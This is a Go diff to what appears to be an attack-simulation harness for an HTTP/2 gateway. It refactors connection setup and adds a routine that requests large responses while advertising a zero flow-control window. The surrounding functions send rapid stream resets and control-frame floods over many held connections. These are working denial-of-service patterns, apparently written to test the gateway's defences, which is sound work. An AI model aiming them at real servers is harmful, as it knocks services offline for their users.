@@ -5,8 +5,8 @@ package gateway
 import (
 	"bytes"
 	"context"
-	"crypto/tls"
 	"io"
+	"net"
 	"time"
 
 	"golang.org/x/net/http2"
@@ -15,7 +15,7 @@ import (
 
 // Streams are opened and reset at once, more than any browser does.
 func h2Resets(ctx context.Context, a *attackers) {
-	head := headerBlock(steady)
+	head := headerBlock(steady, "/")
 	a.h2(ctx, func(framer *http2.Framer, stream uint32) error {
 		err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndStream: true, EndHeaders: true})
 		if err != nil {
@@ -27,7 +27,7 @@ func h2Resets(ctx context.Context, a *attackers) {
 
 // Frames that ask for an answer, or for nothing at all.
 func h2ControlFrames(ctx context.Context, a *attackers) {
-	head := headerBlock(steady)
+	head := headerBlock(steady, "/")
 	a.h2(ctx, func(framer *http2.Framer, stream uint32) error {
 		if stream == 1 {
 			return framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head, EndHeaders: true})
@@ -42,26 +42,33 @@ func h2ControlFrames(ctx context.Context, a *attackers) {
 	})
 }
 
-// h2 holds eight connections of HTTP/2, on each of which something is done five hundred times a second with the number of the next stream.
-func (a *attackers) h2(ctx context.Context, do func(framer *http2.Framer, stream uint32) error) {
-	a.held(ctx, 8, func() {
-		raw, err := a.dial(ctx, a.Gateway+":443")
+// Large responses are asked for, and no window is ever opened for them.
+func h2UnreadResponses(ctx context.Context, a *attackers) {
+	head := headerBlock(rotatingHost, "/large")
+	a.held(ctx, 20, func() {
+		c, framer, err := a.dialH2(ctx, rotatingHost, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
 		if err != nil {
 			return
 		}
-		_ = raw.SetDeadline(time.Now().Add(5 * time.Second))
-		// Whom it talks to does not matter to an attacker.
-		c := tls.Client(raw, &tls.Config{ServerName: steady, InsecureSkipVerify: true, NextProtos: []string{"h2"}})
 		defer c.Close()
-		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
+		for stream := uint32(1); stream < 20; stream += 2 {
+			if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndStream: true, EndHeaders: true}); err != nil {
+				return
+			}
+		}
+		a.wait(ctx, c)
+	})
+}
+
+// h2 holds eight connections of HTTP/2, on each of which something is done five hundred times a second with the number of the next stream.
+func (a *attackers) h2(ctx context.Context, do func(framer *http2.Framer, stream uint32) error) {
+	a.held(ctx, 8, func() {
+		c, framer, err := a.dialH2(ctx, steady)
+		if err != nil {
 			return
 		}
-		_ = raw.SetDeadline(time.Time{})
+		defer c.Close()
 		go func() { _, _ = io.Copy(io.Discard, c) }()
-		framer := http2.NewFramer(c, nil)
-		if err := framer.WriteSettings(); err != nil {
-			return
-		}
 		for stream := uint32(1); ctx.Err() == nil; stream += 2 {
 			if err := do(framer, stream); err != nil {
 				return
@@ -71,11 +78,28 @@ func (a *attackers) h2(ctx context.Context, do func(framer *http2.Framer, stream
 	})
 }
 
-// headerBlock is the head of a GET for a host.
-func headerBlock(host string) []byte {
+func (a *attackers) dialH2(ctx context.Context, host string, settings ...http2.Setting) (net.Conn, *http2.Framer, error) {
+	c, err := a.dialTLS(ctx, host, "h2")
+	if err != nil {
+		return nil, nil, err
+	}
+	framer := http2.NewFramer(c, nil)
+	_, err = io.WriteString(c, http2.ClientPreface)
+	if err == nil {
+		err = framer.WriteSettings(settings...)
+	}
+	if err != nil {
+		_ = c.Close()
+		return nil, nil, err
+	}
+	return c, framer, nil
+}
+
+// headerBlock is the head of a GET.
+func headerBlock(host, path string) []byte {
 	var block bytes.Buffer
 	encoder := hpack.NewEncoder(&block)
-	for _, field := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: host}, {Name: ":path", Value: "/"}} {
+	for _, field := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: host}, {Name: ":path", Value: path}} {
 		_ = encoder.WriteField(field) // to memory
 	}
 	return block.Bytes()
